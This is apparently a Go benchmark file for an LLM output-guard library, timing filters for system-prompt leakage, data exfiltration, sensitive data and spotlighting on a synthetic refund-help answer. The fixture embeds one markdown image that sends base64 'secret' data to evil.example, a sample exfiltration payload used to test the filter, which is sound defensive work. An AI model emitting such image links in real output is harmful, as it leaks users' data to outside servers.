package guard

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/keel-go/keel/guard/detect"
)

// fltBenchPrompt is a system prompt of about 2 KB.
func fltBenchPrompt() string {
	var b strings.Builder
	for b.Len() < 2000 {
		b.WriteString(strings.Join(fltPromptWords, " "))
		fmt.Fprintf(&b, " Rule %d: keep the tone friendly and cite the help centre. ", b.Len())
	}
	return b.String()
}

// fltBenchAnswer is a markdown answer of about 4 KB: headings, lists,
// allowed links, one exfiltration image, an email address, and prose
// that shares words but no long runs with the system prompt.
func fltBenchAnswer() string {
	var b strings.Builder
	for i := 0; b.Len() < 4000; i++ {
		fmt.Fprintf(&b, "## Step %d\n\n", i+1)
		b.WriteString("To change how refunds are paid, open **Billing > Payment methods** and pick the card you want. ")
		b.WriteString("The change applies to the next invoice; refunds already on their way keep the old method.\n\n")
		fmt.Fprintf(&b, "- See [the refund guide](https://help.acme.com/refunds?section=%d) for the details.\n", i)
		b.WriteString("- Questions about a specific invoice go to billing-team@acme.com.\n")
		b.WriteString("- Business customers can also call their account manager.\n\n")
		if i == 2 {
			b.WriteString("![status](https://evil.example/pixel.png?d=c2VjcmV0X2RhdGFfaGVyZTEyMzQ1)\n\n")
		}
	}
	return b.String()
}

func BenchmarkOutputFilters(b *testing.B) {
	prompt := fltBenchPrompt()
	answer := fltBenchAnswer()
	doc, err := json.Marshal(map[string]string{"answer": answer})
	if err != nil {
		b.Fatal(err)
	}
	leak := SystemPromptLeak{SystemPrompt: prompt, Canary: fltTestCanary}
	exfil := Exfiltration{AllowedHosts: []string{"acme.com", "*.acme.com"}}
	sensitive := SensitiveData{Detectors: []detect.Detector{fltEmailDetector}}
	cases := []struct {
		name    string
		text    string
		filters []OutputFilter
	}{
		{"leak", answer, []OutputFilter{leak}},
		{"exfiltration", answer, []OutputFilter{exfil}},
		{"sensitive-fake-regexp", answer, []OutputFilter{sensitive}},
		{"format", string(doc), []OutputFilter{FormatGuard{}}},
		{"leak+exfiltration", answer, []OutputFilter{leak, exfil}},
		{"all", answer, []OutputFilter{leak, exfil, sensitive}},
	}
	for _, tc := range cases {
		g := fltGuard(b, OutputGuardOptions{}, tc.filters...)
		b.Run(tc.name+"/whole", func(b *testing.B) {
			b.SetBytes(int64(len(tc.text)))
			b.ReportAllocs()
			for b.Loop() {
				g.Filter(tc.text)
			}
		})
		b.Run(tc.name+"/stream16", func(b *testing.B) {
			b.SetBytes(int64(len(tc.text)))
			b.ReportAllocs()
			for b.Loop() {
				s := g.NewStream()
				for i := 0; i < len(tc.text); i += 16 {
					s.Write(tc.text[i:min(i+16, len(tc.text))])
				}
				s.Flush()
			}
		})
	}
}

func BenchmarkSpotlight(b *testing.B) {
	doc := fltBenchAnswer()
	for _, mode := range []SpotlightMode{SpotlightDelimit, SpotlightDatamark, SpotlightEncode} {
		s := spotNew(b, mode)
		b.Run(mode.String(), func(b *testing.B) {
			b.SetBytes(int64(len(doc)))
			b.ReportAllocs()
			for b.Loop() {
				s.Wrap(doc)
			}
		})
	}
}
